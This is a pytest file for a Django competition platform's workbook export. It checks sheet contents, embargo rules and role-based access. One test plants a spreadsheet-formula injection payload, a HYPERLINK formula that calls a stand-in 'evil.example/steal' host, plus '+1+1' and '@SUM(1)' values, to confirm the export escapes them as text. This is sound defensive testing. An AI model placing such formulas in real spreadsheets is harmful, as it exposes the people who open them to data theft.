"""The organisers' workbook: its sheets hold the dashboard's figures and published results."""

from __future__ import annotations

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from podium.dashboard.selectors import edition_stats, teams_by
from podium.judging.models import StageEntry
from podium.registration.models import Enterprise, Project, Team
from podium.reports.workbook import edition_workbook

pytestmark = pytest.mark.django_db
ATTACK = '=HYPERLINK("http://evil.example/steal","点击查看")'
SHEETS = [
    "概况 Figures",
    "按省份 By province",
    "按行业 By industry",
    "按赛道 By track",
    "按赛区 By region",
    "区域赛·领军组",
    "区域赛·新锐组",
    "全国半决赛·领军组",
    "全国半决赛·新锐组",
    "总决赛名单 Finalists",
]


def rows(book, title: str) -> list[tuple]:
    return list(book[title].iter_rows(values_only=True))


def test_workbook_downloaded_by_an_organiser_has_every_sheet(client_as, users):
    response = client_as(users["organiser"]).get(reverse("reports:workbook"))

    book = load_workbook(io.BytesIO(response.content))
    assert response["Content-Disposition"] == 'attachment; filename="podium-ciic-2020.xlsx"'
    assert book.sheetnames == SHEETS


def test_workbook_figures_are_the_dashboards(edition):
    book = load_workbook(io.BytesIO(edition_workbook(edition)))

    figures = {key: value for key, _, value in rows(book, "概况 Figures")[1:]}
    expected = {
        k: (float(v) if k == "growth_percent" else v) for k, v in edition_stats(edition).items()
    }
    assert figures == expected
    assert (figures["teams"], figures["patents"], figures["software_copyrights"]) == (
        1457,
        2745,
        5027,
    )


def test_workbook_groupings_are_the_dashboards(edition):
    book = load_workbook(io.BytesIO(edition_workbook(edition)))

    assert rows(book, "按省份 By province")[1:] == teams_by(edition, "province")
    assert rows(book, "按赛道 By track")[1:] == [("领军组", 874), ("新锐组", 583)]
    assert len(rows(book, "按行业 By industry")) == 1 + 29


def test_workbook_semifinal_results_in_rank_order_with_the_ledger_head(edition):
    book = load_workbook(io.BytesIO(edition_workbook(edition)))

    found = rows(book, "全国半决赛·领军组")
    entries = list(
        StageEntry.objects.filter(stage__kind="semifinal", track__code="leader")
        .select_related("project")
        .order_by("rank", "project__code")
    )
    release = edition.stages.get(kind="semifinal").releases.get(track__code="leader")
    assert [(r[0], r[1], r[8]) for r in found[1:70]] == [
        (e.rank, e.project.code, float(e.score)) for e in entries
    ]
    assert found[-2:] == [
        ("签核时账本头哈希 Ledger head at sign-off", release.ledger_head, *[None] * 10),
        ("签名检查点 Signed checkpoint", release.checkpoint.note, *[None] * 10),
    ]


def test_workbook_finalists_are_the_finals_twenty(edition):
    book = load_workbook(io.BytesIO(edition_workbook(edition)))

    finalists = rows(book, "总决赛名单 Finalists")[1:]
    assert len(finalists) == 20
    assert [r[0] for r in finalists].count("领军组") == 14
    assert finalists[0][7] == 1


def test_workbook_leaves_out_results_under_embargo(signed_rookie, edition):
    book = load_workbook(io.BytesIO(edition_workbook(edition)))

    assert "全国半决赛·新锐组" not in book.sheetnames
    assert [r[0] for r in rows(book, "总决赛名单 Finalists")[1:]] == ["领军组"] * 14


@pytest.mark.parametrize("role", ["judge", "supervisor", "team", "partner"])
def test_workbook_refused_to_other_roles(client_as, users, role):
    response = client_as(users[role]).get(reverse("reports:workbook"))

    assert response.status_code == 403
    assert response["Content-Type"].startswith("text/html")  # not the workbook
    assert "403 Forbidden" in response.content.decode()


def test_workbook_sends_anonymous_visitors_to_log_in(client):
    response = client.get(reverse("reports:workbook"))

    assert response.status_code == 302
    assert response["Location"].startswith(reverse("accounts:login"))


def test_workbook_team_text_starting_like_a_formula_is_text(edition):
    first = (
        StageEntry.objects.filter(stage__kind="semifinal", track__code="leader", rank=1)
        .select_related("project")
        .get()
    )
    project = first.project
    Project.objects.filter(pk=project.pk).update(title=ATTACK)
    Team.objects.filter(pk=project.team_id).update(name="+1+1")
    Enterprise.objects.filter(pk=project.lead_enterprise_id).update(name="@SUM(1)")

    book = load_workbook(io.BytesIO(edition_workbook(edition)))

    for title in ("全国半决赛·领军组", "总决赛名单 Finalists"):
        row = next(r for r in book[title].iter_rows() if r[1].value == project.code)
        assert [(c.value, c.data_type) for c in row[2:5]] == [
            ("'" + ATTACK, "s"),
            ("'+1+1", "s"),
            ("'@SUM(1)", "s"),
        ]
